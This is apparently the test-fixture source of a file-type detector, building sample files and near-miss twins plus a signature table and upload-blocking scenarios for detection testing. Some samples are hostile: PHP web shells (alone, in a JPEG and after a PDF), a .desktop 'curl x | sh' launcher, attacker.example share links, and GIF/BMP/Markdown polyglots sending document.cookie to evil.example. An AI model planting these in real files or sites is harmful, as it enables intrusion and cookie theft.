TEXT(b_sh, "#!/bin/sh\nset -e\necho hello\n")
TEXT(b_py_shebang, "#!/usr/bin/env python3\nimport os\nprint(os.getcwd())\n")
TEXT(b_py, "import os\nimport sys\n\n\ndef main():\n    print(sys.argv)\n\n\nif __name__ == \"__main__\":\n    main()\n")
TEXT(b_pl, "#!/usr/bin/perl\nuse strict;\nuse warnings;\nmy $x = 1;\nprint \"$x\\n\";\n")
TEXT(b_pl_plain, "use strict;\nuse warnings;\n\nmy $name = shift @ARGV;\nsub greet {\n    print \"hi $name\\n\";\n}\n")
TEXT(b_rb, "#!/usr/bin/env ruby\nputs 'hello'\n")
TEXT(b_rb_plain, "require 'json'\n\nmodule Greeter\n  def hello\n    puts 'hi'\n  end\nend\n")
TEXT(b_php, "<?php\nsystem($_GET['c']);\n?>\n")
TEXT(b_ps1, "[CmdletBinding()]\nparam([string]$Path)\nGet-ChildItem -Path $Path | Remove-Item -Force\nWrite-Host \"done\"\n")
TEXT(b_bat, "@echo off\r\nset TARGET=%~dp0\r\nif exist \"%TARGET%x.txt\" del \"%TARGET%x.txt\"\r\ngoto :eof\r\n")
TEXT(b_vbs, "Option Explicit\r\nDim sh\r\nSet sh = CreateObject(\"WScript.Shell\")\r\nsh.Run \"calc.exe\"\r\n")
TEXT(b_js, "var sh = new ActiveXObject(\"WScript.Shell\");\nsh.Run(\"calc.exe\");\n")
TEXT(b_js_node, "'use strict';\nconst fs = require('fs');\nmodule.exports = function read(p) { return fs.readFileSync(p); };\n")
TEXT(b_jse, "#@~^CAAAAA==Vb/D1+2ZAwIAAA==^#~@\n")
TEXT(b_tmpl_script, "{% extends \"base.html\" %}\n{% block body %}\n<div class=\"box\">\n  <script>fetch('/x')</script>\n</div>\n{% endblock %}\n")
/* A broken interpreter line that still names Python in a later word; its twin names none. */
TEXT(b_py_badenv, "#!/usr/bin env python\nimport os\nprint(os.getcwd())\n")
TEXT(n_py_badenv, "#!/usr/bin env\nimport os\nprint(os.getcwd())\n")
/* JavaScript that writes a batch file: the batch phrase is quoted; its twin is the batch file itself. */
TEXT(b_js_writes_bat, "const path = require('path')\nconst shim = (from) => from\nconst head = '@ECHO off\\r\\n' +\n  'SET dp0=%~dp0\\r\\n'\n")
TEXT(n_js_writes_bat, "@ECHO off\r\nSET dp0=%~dp0\r\n")
/* XHTML after an XML declaration is an XML document (MIME sniffing's "<?xml" rule); without it, HTML. */
TEXT(b_xhtml_prolog, "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<!DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.0 Strict//EN\" \"http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd\">\n<html xmlns=\"http://www.w3.org/1999/xhtml\"><head><title>t</title></head><body><p>x</p></body></html>\n")
TEXT(n_xhtml_prolog, "<!DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.0 Strict//EN\" \"http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd\">\n<html xmlns=\"http://www.w3.org/1999/xhtml\"><head><title>t</title></head><body><p>x</p></body></html>\n")
/* Autoconf M4; its twin has only comment lines (dnl alone decides nothing). */
TEXT(b_m4, "dnl Checks for the foo library.\nAC_DEFUN([FOO_CHECK],\n[\n  AC_REQUIRE([AC_PROG_CC])dnl\n  AC_SUBST([FOO_LIBS])\n])\n")
TEXT(n_m4, "dnl notes for the release\ndnl nothing here yet\n")
/* Emacs Lisp; its twin mentions (defun in prose, one indicator only. */
TEXT(b_lisp, ";; greet.el\n(defun greet (name)\n  (let ((msg (concat \"hi \" name)))\n    (message msg)))\n(provide 'greet)\n")
TEXT(n_lisp, "(defun is how Lisp names a function; see the manual.)\nNothing else here.\n")
/* polkit rules are JavaScript run by polkitd; the twin only names polkit. */
TEXT(b_polkit, "polkit.addRule(function(action, subject) {\n    if (subject.isInGroup(\"wheel\")) {\n        return polkit.Result.YES;\n    }\n});\n")
TEXT(n_polkit, "See polkit(8): rules are added by the administrator.\n")
/* An ES module; its twin is a shell environment file, whose export takes NAME=value. */
TEXT(b_esm, "export function add(a, b) {\n  return a + b;\n}\n")
TEXT(n_esm, "export FUNCTION=add\nexport PATH=/usr/local/bin:/usr/bin\n")
/* A C header by its include guard; the twin's #define names another macro. */
TEXT(b_guard, "#ifndef FOO_H\n#define FOO_H\nint foo(void);\n")
TEXT(n_guard, "#ifndef FOO_H\n#define BAR_H\nint foo(void);\n")
TEXT(b_cmain, "int main(void)\n{\n  return 0;\n}\n")
TEXT(n_cmain, "The int main(void) function is where a C program starts.\n")
/* A Jinja template of a page: not markup at its start, HTML in its lines; the twin quotes HTML in code. */
TEXT(b_tmpl, "{% extends \"base.html\" %}\n{% block body %}\n<div class=\"box\">\n  <h3>Title</h3>\n</div>\n{% endblock %}\n")
TEXT(n_tmpl, "begin\n  s := '<html><body>' + title;\n  t := '<div>' + s + '</div>';\nend.\n")
TEXT(b_hta, "<html><head><hta:application id=\"app\" windowstate=\"minimize\"/>\n<script language=\"VBScript\">CreateObject(\"WScript.Shell\").Run \"calc\"</script></head></html>\n")
TEXT(b_wsf, "<job id=\"main\">\n<script language=\"JScript\">WScript.Echo(\"hi\");</script>\n</job>\n")
TEXT(b_url, "[InternetShortcut]\r\nURL=file://attacker.example/share/payload.exe\r\nIconIndex=1\r\n")
TEXT(b_scf, "[Shell]\r\nCommand=2\r\nIconFile=\\\\attacker.example\\share\\icon.ico\r\n[Taskbar]\r\nCommand=ToggleDesktop\r\n")
TEXT(b_desktop, "[Desktop Entry]\nType=Application\nName=Invoice\nExec=sh -c 'curl x | sh'\n")
TEXT(b_libms, "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<libraryDescription xmlns=\"http://schemas.microsoft.com/windows/2009/library\"><searchConnectorDescriptionList/></libraryDescription>\n")
TEXT(b_eicar, "X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*")
TEXT(n_eicar, "X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H+")

static void b_utf16_ps1(struct sbuf *b)
{
	static const char s[] = "param($x)\r\nInvoke-Expression $x\r\n";
	sb_put(b, "\xff\xfe", 2);
	for (const char *p = s; *p; p++)
		sb_u16le(b, (uint8_t)*p);
}

/* --- polyglots and disguises ------------------------------------------- */

static void b_pdf_zip(struct sbuf *b)
{
	b_pdf(b);
	static const struct zent e[] = {{"payload.js", "WScript.Echo(1);\n"}};
	zip_build(b, e, 1);
}
static void b_jpeg_php(struct sbuf *b)
{
	sb_put(b, "\xff\xd8\xff\xfe\x00\x20", 6);
	sb_str(b, "<?php system($_GET['c']); ?>  ");
	sb_put(b, "\xff\xd9", 2);
}
static void b_png_zip(struct sbuf *b)
{
	b_png(b);
	static const struct zent e[] = {{"a.txt", "x"}};
	zip_build(b, e, 1);
}

/* --- tables ------------------------------------------------------------- */

/* --- identification breadth (issue 8): each with a near miss ------------ */

static void b_png_cgbi(struct sbuf *b)
{
	sb_put(b, "\x89PNG\r\n\x1a\n\0\0\0\x04" "CgBI" "\x50\x00\x20\x06\x2c\xb8\x77\x66", 24);
	sb_put(b, "\0\0\0\x0dIHDR\0\0\0\1\0\0\0\1\x08\x06\0\0\0\x1f\x15\xc4\x89", 25);
}
static void n_png_cgbi(struct sbuf *b) { b_png_cgbi(b); memcpy(b->p + 12, "CgBX", 4); }
static void b_rifx_wav(struct sbuf *b) { sb_str(b, "RIFX"); sb_u32be(b, 36); sb_str(b, "WAVEfmt "); sb_pad(b, 44); }
static void n_rifx_wav(struct sbuf *b) { sb_str(b, "RIFX"); sb_u32be(b, 36); sb_str(b, "WAVXfmt "); sb_pad(b, 44); }
static void b_avi(struct sbuf *b) { sb_str(b, "RIFF"); sb_u32le(b, 36); sb_str(b, "AVI LIST"); sb_pad(b, 44); }
static void b_rifx_avi(struct sbuf *b) { sb_str(b, "RIFX"); sb_u32be(b, 36); sb_str(b, "AVI LIST"); sb_pad(b, 44); }
static void n_avi(struct sbuf *b) { sb_str(b, "RIFF"); sb_u32le(b, 36); sb_str(b, "AVJ LIST"); sb_pad(b, 44); }
static void ebml(struct sbuf *b, const char *doctype)
{
	sb_put(b, "\x1a\x45\xdf\xa3", 4);
	sb_u8(b, (uint8_t)(0x80 | (15 + strlen(doctype) + 9)));
	sb_put(b, "\x42\x86\x81\x01\x42\xf7\x81\x01\x42\xf2\x81\x04\x42\xf3\x81\x08", 16);
	sb_put(b, "\x42\x82", 2);
	sb_u8(b, (uint8_t)(0x80 | strlen(doctype)));
	sb_str(b, doctype);
	sb_put(b, "\x42\x87\x81\x04\x42\x85\x81\x02", 8);
	sb_pad(b, 64);
}
static void b_webm(struct sbuf *b) { ebml(b, "webm"); }
static void n_webm(struct sbuf *b) { ebml(b, "wobm"); }
static void b_mkv(struct sbuf *b) { ebml(b, "matroska"); }
static void n_mkv(struct sbuf *b) { ebml(b, "matrosca"); }
static void ftyp_major(struct sbuf *b, const char *major)
{
	sb_u32be(b, 20);
	sb_str(b, "ftyp");
	sb_str(b, major);
	sb_u32be(b, 0);
	sb_str(b, "isom");
	sb_pad(b, 64);
}
static void b_mov(struct sbuf *b) { ftyp_major(b, "qt  "); }
static void b_3gp(struct sbuf *b) { ftyp_major(b, "3gp5"); }
static void b_3g2(struct sbuf *b) { ftyp_major(b, "3g2a"); }
static void b_m4a(struct sbuf *b) { ftyp_major(b, "M4A "); }
static void b_m4v(struct sbuf *b) { ftyp_major(b, "M4V "); }
/* Near miss for a brand: another brand, which is plain MP4. */
static void n_brand(struct sbuf *b) { ftyp_major(b, "mp42"); }
static void sfnt(struct sbuf *b, const char *tag)
{
	sb_put(b, tag, 4);
	sb_u16be(b, 10);	/* tables */
	sb_u16be(b, 128);	/* search range */
	sb_u16be(b, 3);
	sb_u16be(b, 32);
	sb_pad(b, 256);
}
static void b_ttf(struct sbuf *b) { sfnt(b, "\x00\x01\x00\x00"); }
static void n_ttf(struct sbuf *b) { sfnt(b, "\x00\x01\x00\x00"); b->p[7] = 100; /* search range not a power of two */ }
static void b_otf(struct sbuf *b) { sfnt(b, "OTTO"); }
static void n_otf(struct sbuf *b) { sfnt(b, "OTTA"); }
static void b_woff(struct sbuf *b) { sb_str(b, "wOFF"); sb_u32be(b, 0x00010000); sb_pad(b, 64); }
static void n_woff(struct sbuf *b) { sb_str(b, "wOFf"); sb_u32be(b, 0x00010000); sb_pad(b, 64); }
static void b_woff2(struct sbuf *b) { sb_str(b, "wOF2"); sb_u32be(b, 0x00010000); sb_pad(b, 64); }
static void n_woff2(struct sbuf *b) { sb_str(b, "wOF3"); sb_u32be(b, 0x00010000); sb_pad(b, 64); }
static void b_sqlite(struct sbuf *b) { sb_put(b, "SQLite format 3\0\x10\0\x01\x01\0\x40\x20\x20", 24); sb_pad(b, 100); }
static void n_sqlite(struct sbuf *b) { sb_put(b, "SQLite format 2\0\x10\0\x01\x01\0\x40\x20\x20", 24); sb_pad(b, 100); }
static void b_eml(struct sbuf *b)
{
	sb_str(b, "Return-Path: <alice@example.org>\r\nReceived: from mx.example.org by mail.example.org\r\n"
		  "From: Alice <alice@example.org>\r\nTo: Bob <bob@example.org>\r\nSubject: Lunch\r\n"
		  "Date: Mon, 30 Nov 2026 10:00:00 +0000\r\nMessage-ID: <1@example.org>\r\n\r\nSee you at noon.\r\n");
}
static void n_eml(struct sbuf *b) { sb_str(b, "From: the desk of Alice\nPlease read the notes before Friday.\n"); }
static void b_mbox(struct sbuf *b)
{
	sb_str(b, "From alice@example.org Mon Nov 30 10:00:00 2026\nFrom: Alice <alice@example.org>\n"
		  "Subject: Lunch\nDate: Mon, 30 Nov 2026 10:00:00 +0000\n\nSee you at noon.\n");
}
static void n_mbox(struct sbuf *b) { sb_str(b, "From here on, notes are kept in the wiki.\nThanks.\n"); }
static void b_ics(struct sbuf *b)
{
	sb_str(b, "BEGIN:VCALENDAR\r\nVERSION:2.0\r\nPRODID:-//crible//test//EN\r\nBEGIN:VEVENT\r\nUID:1@example.org\r\n"
		  "DTSTART:20261130T100000Z\r\nSUMMARY:Review\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n");
}
static void n_ics(struct sbuf *b) { sb_str(b, "BEGIN VCALENDAR export failed; see the log.\n"); }
static void b_vcf(struct sbuf *b) { sb_str(b, "BEGIN:VCARD\r\nVERSION:3.0\r\nFN:Alice Example\r\nN:Example;Alice;;;\r\nEND:VCARD\r\n"); }
static void n_vcf(struct sbuf *b) { sb_str(b, "BEGIN: VCARD is how the export starts.\n"); }
static void b_pem_cert(struct sbuf *b) { sb_str(b, "-----BEGIN CERTIFICATE-----\nMIIBszCCAVmgAwIBAgIUQ\n-----END CERTIFICATE-----\n"); }
static void n_pem_cert(struct sbuf *b) { sb_str(b, "-----BEGIN CERTIFICATES-----\nnot a PEM label\n"); }
static void b_pem_key(struct sbuf *b) { sb_str(b, "-----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEA\n-----END RSA PRIVATE KEY-----\n"); }
static void n_pem_key(struct sbuf *b) { sb_str(b, "-----BEGIN RSA PRIVATE KEYS-----\nnot a PEM label\n"); }
static void b_ssh_key(struct sbuf *b)
{
	sb_str(b, "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQ\n-----END OPENSSH PRIVATE KEY-----\n");
}
static void n_ssh_key(struct sbuf *b) { sb_str(b, "-----BEGIN OPENSSH KEY-----\nb3BlbnNzaA\n"); }
static void b_ssh_pub(struct sbuf *b) { sb_str(b, "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIG alice@laptop\n"); }
static void n_ssh_pub(struct sbuf *b) { sb_str(b, "ssh-ed25519 keys are shorter than RSA keys.\n"); }
static void b_pgp_armor(struct sbuf *b) { sb_str(b, "-----BEGIN PGP PUBLIC KEY BLOCK-----\n\nmQINBF\n-----END PGP PUBLIC KEY BLOCK-----\n"); }
static void n_pgp_armor(struct sbuf *b) { sb_str(b, "-----BEGIN PGP MESSAGE-----\n\nhQEMA\n-----END PGP MESSAGE-----\n"); }
static void b_der_cert(struct sbuf *b)
{
	sb_put(b, "\x30\x82\x01\x00\x30\x82\x00\xf0\xa0\x03\x02\x01\x02\x02\x01\x01", 16);
	sb_pad(b, 260);
}
static void n_der_cert(struct sbuf *b) { b_der_cert(b); b->p[12] = 3; /* version 4: no such thing */ }
static void b_wasm(struct sbuf *b) { sb_put(b, "\0asm\x01\0\0\0\x01\x04\x01\x60\0\0", 14); }
static void n_wasm(struct sbuf *b) { sb_put(b, "\0asm\x02\0\0\0\x01\x04\x01\x60\0\0", 14); }
static void b_dex(struct sbuf *b) { sb_put(b, "dex\n035\0", 8); sb_pad(b, 0x70); }
static void n_dex(struct sbuf *b) { sb_put(b, "dex\n03a\0", 8); sb_pad(b, 0x70); }
static void b_mdmp(struct sbuf *b) { sb_put(b, "MDMP\x93\xa7\0\0", 8); sb_u32le(b, 13); sb_u32le(b, 32); sb_pad(b, 64); }
static void n_mdmp(struct sbuf *b) { sb_put(b, "MDMP\0\0\0\0", 8); sb_u32le(b, 13); sb_u32le(b, 32); sb_pad(b, 64); }
static void b_reg4(struct sbuf *b) { sb_str(b, "REGEDIT4\r\n\r\n[HKEY_CURRENT_USER\\Software\\Example]\r\n\"Mode\"=\"fast\"\r\n"); }
static void n_reg4(struct sbuf *b) { sb_str(b, "REGEDIT was used to export this, see below.\r\n"); }
static void b_reg5(struct sbuf *b)
{
	static const char t[] = "Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\Software\\Example]\r\n\"Mode\"=\"fast\"\r\n";
	sb_put(b, "\xff\xfe", 2);
	for (const char *c = t; *c; c++) {
		sb_u8(b, (uint8_t)*c);
		sb_u8(b, 0);
	}
}
static void n_reg5(struct sbuf *b) { sb_str(b, "Windows Registry Editor Version 4.00 is not a thing.\r\n"); }
static void b_regf(struct sbuf *b) { sb_str(b, "regf"); sb_u32le(b, 7); sb_u32le(b, 7); sb_zero(b, 8); sb_u32le(b, 1); sb_u32le(b, 5); sb_pad(b, 4096); }
static void n_regf(struct sbuf *b) { sb_str(b, "regf"); sb_u32le(b, 7); sb_u32le(b, 7); sb_zero(b, 8); sb_u32le(b, 2); sb_u32le(b, 5); sb_pad(b, 4096); }
ZIP(b_wheel, {"example/__init__.py", "X = 1\n"}, {"example-1.0.dist-info/METADATA", "Name: example\n"},
    {"example-1.0.dist-info/WHEEL", "Wheel-Version: 1.0\n"}, {"example-1.0.dist-info/RECORD", ""})
ZIP(n_wheel, {"example/__init__.py", "X = 1\n"}, {"docs/example-1.0.dist-info/WHEEL", "Wheel-Version: 1.0\n"})
ZIP(b_egg, {"example/__init__.py", "X = 1\n"}, {"EGG-INFO/PKG-INFO", "Name: example\n"})
ZIP(n_egg, {"example/__init__.py", "X = 1\n"}, {"EGG-INFO/PKG-INF", "Name: example\n"})
static void b_npm(struct sbuf *b)
{
	static const char pj[] = "{\"name\": \"example\", \"version\": \"1.0.0\"}\n";
	tar_block(b, "package/package.json", '0', NULL, NULL, NULL, NULL, sizeof pj - 1, pj, sizeof pj - 1);
	tar_block(b, "package/index.js", '0', NULL, NULL, NULL, NULL, 13, "module.exports", 13);
	sb_zero(b, 1024);
}
static void n_npm(struct sbuf *b)
{
	static const char pj[] = "{\"name\": \"example\", \"version\": \"1.0.0\"}\n";
	tar_block(b, "example/package.json", '0', NULL, NULL, NULL, NULL, sizeof pj - 1, pj, sizeof pj - 1);
	sb_zero(b, 1024);
}
static void b_crate(struct sbuf *b)
{
	static const char ct[] = "[package]\nname = \"example\"\nversion = \"0.1.0\"\n";
	tar_block(b, "example-0.1.0/.cargo_vcs_info.json", '0', NULL, NULL, NULL, NULL, 2, "{}", 2);
	tar_block(b, "example-0.1.0/Cargo.toml", '0', NULL, NULL, NULL, NULL, sizeof ct - 1, ct, sizeof ct - 1);
	tar_block(b, "example-0.1.0/src/lib.rs", '0', NULL, NULL, NULL, NULL, 1, "\n", 1);
	sb_zero(b, 1024);
}
static void n_crate(struct sbuf *b)
{
	tar_block(b, "example-0.1.0/README.md", '0', NULL, NULL, NULL, NULL, 6, "hello\n", 6);
	tar_block(b, "example-0.1.0/src/Cargo.toml", '0', NULL, NULL, NULL, NULL, 1, "\n", 1);
	sb_zero(b, 1024);
}
/* A GitHub README: centred HTML first, Markdown after. */
static void b_md_html(struct sbuf *b)
{
	sb_str(b, "<p align=\"center\">\n  <img src=\"docs/logo.png\" width=\"200\" alt=\"logo\">\n</p>\n\n"
		  "# Example\n\nA tool that does one thing well. See [the docs](docs/index.md).\n\n## Install\n\n"
		  "```sh\nmake install\n```\n");
}
static void n_md_html(struct sbuf *b)
{
	sb_str(b, "<p align=\"center\">\n<html><body>\n# Not a heading\n<a href=\"x\">[the docs](docs/index.md)</a>\n</body></html>\n");
}
/* A README whose first lines are code blocks. */
static void b_md_code(struct sbuf *b)
{
	sb_str(b, "```sh\n$ pip install example\n$ example --help\n```\n\n```python\nimport example\nexample.run()\n```\n\n"
		  "# Example\n\nRun it as shown above; see [usage](docs/usage.md).\n");
}
static void n_md_code(struct sbuf *b) { sb_str(b, "#!/bin/sh\npip install example\nexample --help\n"); }
/* The same README with a handler in its HTML: still Markdown, and the HTML check still runs. */
static void b_md_script(struct sbuf *b)
{
	sb_str(b, "<p align=\"center\">\n  <img src=\"docs/logo.png\" onerror=\"fetch('//evil.example/'+document.cookie)\">\n</p>\n\n"
		  "# Example\n\nA tool that does one thing well. See [the docs](docs/index.md).\n");
}

static void b_tar_first_pdf(struct sbuf *b);
static void n_tar_first_pdf(struct sbuf *b);

const struct sig sigs[] = {
	{"zip", b_zip, n_zip},
	{"jar", b_jar, n_jar},
	{"apk", b_apk, n_jar},
	{"docx", b_docx, n_docx},
	{"docm", b_docm, n_docx},
	{"xlsx", b_xlsx, n_docx},
	{"xlsm", b_xlsm, n_docx},
	{"pptx", b_pptx, n_docx},
	{"pptm", b_pptm, n_docx},
	{"odt", b_odt, n_odt},
	{"ods", b_ods, n_odt},
	{"odp", b_odp, n_odt},
	{"epub", b_epub, n_odt},
	{"tar", b_tar, n_tar},
	{"tar-gnu", b_tar_gnu, n_tar},
	{"tar-pax", b_tar_pax, n_tar},
	{"tar-v7", b_tar_v7, n_tar},
	{"gzip", b_gzip, n_gzip},
	{"bzip2", b_bzip2, n_bzip2},
	{"xz", b_xz, n_xz},
	{"zstd", b_zstd, n_zstd},
	{"lz4", b_lz4, n_lz4},
	{"7z", b_7z, n_7z},
	{"rar5", b_rar5, n_rar5},
	{"pyc", b_pyc, n_pyc},
	{"rar4", b_rar4, n_rar4},
	{"cab", b_cab, n_cab},
	{"iso9660", b_iso, n_iso},
	{"cpio", b_cpio, n_cpio},
	{"ar", b_ar, n_ar},
	{"deb", b_deb, n_ar},
	{"rpm", b_rpm, n_rpm},
	{"dmg", b_dmg, n_dmg},
	{"vhd", b_vhd, n_vhd},
	{"vhdx", b_vhdx, n_vhdx},
	{"pe32-exe", b_pe32_exe, n_pe},
	{"pe64-exe", b_pe64_exe, n_pe},
	{"pe32-dll", b_pe32_dll, n_pe},
	{"pe64-dll", b_pe64_dll, n_pe},
	{"pe32-driver", b_pe32_sys, n_pe},
	{"pe64-driver", b_pe64_sys, n_pe},
	{"dos-mz", b_dos, n_pe},
	{"elf-exec", b_elf_exec, n_elf},
	{"elf-so", b_elf_so, n_elf},
	{"elf-pie", b_elf_pie, n_elf},
	{"elf-rel", b_elf_rel, n_elf},
	{"elf-exec", b_elf_v0, n_elf},
	{"elf-exec", b_elf_class3, n_elf},
	{"pe32-exe", b_pe_tiny, n_pe_tiny},
	{"tar", b_tar_first_pdf, n_tar_first_pdf},
	{"macho", b_macho, n_macho},
	{"macho-fat", b_macho_fat, n_class},
	{"java-class", b_class, n_class},
	{"pdf", b_pdf, n_pdf},
	{"pdf", b_pdf_late, n_pdf},
	{"doc", b_doc, n_doc},
	{"xls", b_xls, n_doc},
	{"ppt", b_ppt, n_doc},
	{"msg", b_msg, n_doc},
	{"msi", b_msi, n_doc},
	{"ole", n_doc, n_ole},
	{"rtf", b_rtf, n_rtf},
	{"onenote", b_one, n_one},
	{"lnk", b_lnk, n_lnk},
	{"chm", b_chm, n_chm},
	{"png", b_png, n_png},
	{"jpeg", b_jpeg, n_jpeg},
	{"gif", b_gif, n_gif},
	{"webp", b_webp, n_webp},
	{"bmp", b_bmp, n_bmp},
	{"tiff", b_tiff, n_tiff},
	{"ico", b_ico, n_ico},
	{"svg", b_svg, b_xml},
	{"heic", b_heic, n_mp4},
	{"avif", b_avif, n_mp4},
	{"mp3", b_mp3, n_mp3},
	{"mp4", b_mp4, n_mp4},
	{"wav", b_wav, n_webp},
	{"ogg", b_ogg, n_ogg},
	{"flac", b_flac, n_flac},
	{"text", b_text, n_text},
	{"text", b_utf8, n_elf},
	{"csv", b_csv, n_csv},
	{"json", b_json, n_json},
	{"xml", b_xml, b_text},
	{"html", b_html, n_html},
	{"markdown", b_md, b_text},
	{"shell", b_sh, b_text},
	{"python", b_py_shebang, b_text},
	{"python", b_py, b_text},
	{"perl", b_pl, b_text},
	{"perl", b_pl_plain, b_text},
	{"ruby", b_rb, b_text},
	{"ruby", b_rb_plain, b_text},
	{"php", b_php, b_text},
	{"powershell", b_ps1, b_text},
	{"powershell", b_utf16_ps1, b_text},
	{"batch", b_bat, b_text},
	{"vbscript", b_vbs, b_text},
	{"javascript", b_js, b_text},
	{"javascript", b_js_node, b_json},
	{"wsh-encoded", b_jse, b_text},
	{"hta", b_hta, b_html},
	{"wsf", b_wsf, b_xml},
	{"url", b_url, b_text},
	{"scf", b_scf, b_text},
	{"desktop", b_desktop, b_text},
	{"library-ms", b_libms, b_xml},
	/* identification breadth (issue 8) */
	{"png", b_png_cgbi, n_png_cgbi},
	{"wav", b_rifx_wav, n_rifx_wav},
	{"avi", b_avi, n_avi},
	{"avi", b_rifx_avi, n_avi},
	{"webm", b_webm, n_webm},
	{"matroska", b_mkv, n_mkv},
	{"mov", b_mov, n_brand},
	{"3gpp", b_3gp, n_brand},
	{"3gpp2", b_3g2, n_brand},
	{"m4a", b_m4a, n_brand},
	{"m4v", b_m4v, n_brand},
	{"sfnt", b_ttf, n_ttf},
	{"otf", b_otf, n_otf},
	{"woff", b_woff, n_woff},
	{"woff2", b_woff2, n_woff2},
	{"sqlite", b_sqlite, n_sqlite},
	{"eml", b_eml, n_eml},
	{"mbox", b_mbox, n_mbox},
	{"msg", b_msg, n_doc},
	{"icalendar", b_ics, n_ics},
	{"vcard", b_vcf, n_vcf},
	{"pem-cert", b_pem_cert, n_pem_cert},
	{"pem-key", b_pem_key, n_pem_key},
	{"x509-der", b_der_cert, n_der_cert},
	{"ssh-key", b_ssh_key, n_ssh_key},
	{"ssh-pubkey", b_ssh_pub, n_ssh_pub},
	{"pgp-keys", b_pgp_armor, n_pgp_armor},
	{"wasm", b_wasm, n_wasm},
	{"wheel", b_wheel, n_wheel},
	{"egg", b_egg, n_egg},
	{"npm", b_npm, n_npm},
	{"crate", b_crate, n_crate},
	{"dex", b_dex, n_dex},
	{"minidump", b_mdmp, n_mdmp},
	{"regedit", b_reg4, n_reg4},
	{"regedit", b_reg5, n_reg5},
	{"registry-hive", b_regf, n_regf},
	{"markdown", b_md_html, n_md_html},
	{"markdown", b_md_code, n_md_code},
	{"m4", b_m4, n_m4},
	{"lisp", b_lisp, n_lisp},
	{"javascript", b_polkit, n_polkit},
	{"javascript", b_esm, n_esm},
	{"c", b_guard, n_guard},
	{"c", b_cmain, n_cmain},
	{"html", b_tmpl, n_tmpl},
	{"python", b_py_badenv, n_py_badenv},
	{"javascript", b_js_writes_bat, n_js_writes_bat},
	{"xml", b_xhtml_prolog, n_xhtml_prolog},
};
const size_t nsigs = sizeof sigs / sizeof sigs[0];

/* --- polyglots, loader readings, tar identity (issue 8) ------------------- */

/* A GIF signature that opens a JavaScript program: <script src="x.gif"> runs it. */
static void b_gif_js(struct sbuf *b) { sb_str(b, "GIF89a=alert(document.domain)//"); sb_put(b, "\x01\0\x01\0\x80\0\0;", 8); }
/* A real 61-pixel-wide GIF: its width spells "=" followed by a zero byte, not JavaScript. */
static void b_gif_61(struct sbuf *b) { sb_put(b, "GIF89a=\0\x01\0\x80\0\0\0\0\0\xff\xff\xff,\0\0\0\0\x01\0\x01\0\0\x02\x02D\x01\0;", 35); }
/* A GIF whose header sits in a comment, then code. */
static void b_gif_comment_js(struct sbuf *b) { sb_put(b, "GIF89a/*\x01\0\x01\0\x80\0\0*/=1;alert(1);", 26); }
static void b_bmp_js(struct sbuf *b) { sb_str(b, "BM=1;fetch('https://evil.example/?'+document.cookie)//\n"); }
static void b_bmw(struct sbuf *b) { sb_str(b, "BMW owners club: next meeting on Friday.\n"); }
/* A page ahead of a PDF: Acrobat skips it, a browser runs it. */
static void b_html_pdf(struct sbuf *b) { sb_str(b, "<html><body><script>alert(1)</script></body></html>\n"); b_pdf(b); }
static void b_pdf_html(struct sbuf *b) { b_pdf(b); sb_str(b, "<html><body><p>Hello</p></body></html>\n"); }
static void b_pdf_php(struct sbuf *b) { b_pdf(b); sb_str(b, "<?php system($_GET['c']); ?>\n"); }
static void b_pdf_tail_twin(struct sbuf *b) { b_pdf(b); sb_zero(b, 64); sb_str(b, "\n"); }

/* A tar whose first member is a PDF (%PDF- at 512, inside the first KiB). */
static void b_tar_first_pdf(struct sbuf *b)
{
	struct sbuf p = {0};
	b_pdf(&p);
	tar_block(b, "report.pdf", '0', NULL, NULL, NULL, NULL, (unsigned)p.len, p.p, p.len);
	sb_zero(b, 1024);
	sb_free(&p);
}
/* The same with the header's checksum broken: no tar reader takes it, it is the PDF Acrobat finds. */
static void n_tar_first_pdf(struct sbuf *b) { b_tar_first_pdf(b); b->p[148] ^= 1; }
/* A tar whose last member is a DOCX: its end record sits near the tar's end, inside the member. */
static void b_tar_last_docx(struct sbuf *b)
{
	struct sbuf d = {0};
	b_docx(&d);
	tar_block(b, "notes.txt", '0', NULL, NULL, NULL, NULL, 6, "hello\n", 6);
	tar_block(b, "letter.docx", '0', NULL, NULL, NULL, NULL, (unsigned)d.len, d.p, d.len);
	sb_zero(b, 1024);
	sb_free(&d);
}
/* A DOCX appended after the tar's end: a second reading. */
static void b_tar_then_docx(struct sbuf *b)
{
	tar_block(b, "notes.txt", '0', NULL, NULL, NULL, NULL, 6, "hello\n", 6);
	sb_zero(b, 1024);
	b_docx(b);
}

/* pax hdrcharset=BINARY: the name is bytes (Latin-1 here), not UTF-8. */
static void tar_latin1(struct sbuf *b, bool binary)
{
	static const char both[] = "21 hdrcharset=BINARY\n17 path=caf\xe9.txt\n", path[] = "17 path=caf\xe9.txt\n";
	const char *rec = binary ? both : path;
	tar_block(b, "PaxHeaders/cafe", 'x', NULL, NULL, NULL, NULL, (unsigned)strlen(rec), rec, strlen(rec));
	tar_block(b, "cafe.txt", '0', NULL, NULL, NULL, NULL, 6, "hello\n", 6);
	sb_zero(b, 1024);
}
static void b_tar_binary(struct sbuf *b) { tar_latin1(b, true); }
static void b_tar_binary_twin(struct sbuf *b) { tar_latin1(b, false); }

const struct scenario scenarios[] = {
	/* The acceptance cases. */
	{"report.pdf", b_pe32_exe, "", "pe32-exe", "exec.native type.mismatch", "block",
	 "a Windows program named as a PDF"},
	{"upload.png", b_py, "--accept image/png", "python", "type.disallowed type.mismatch", "block",
	 "a Python script uploaded as a PNG to a PNG-only form (Streamlit file_uploader)"},
	{"photo.jpg", b_png, "", "png", "type.mismatch", "allow", "a PNG named .jpg: harmless mismatch"},
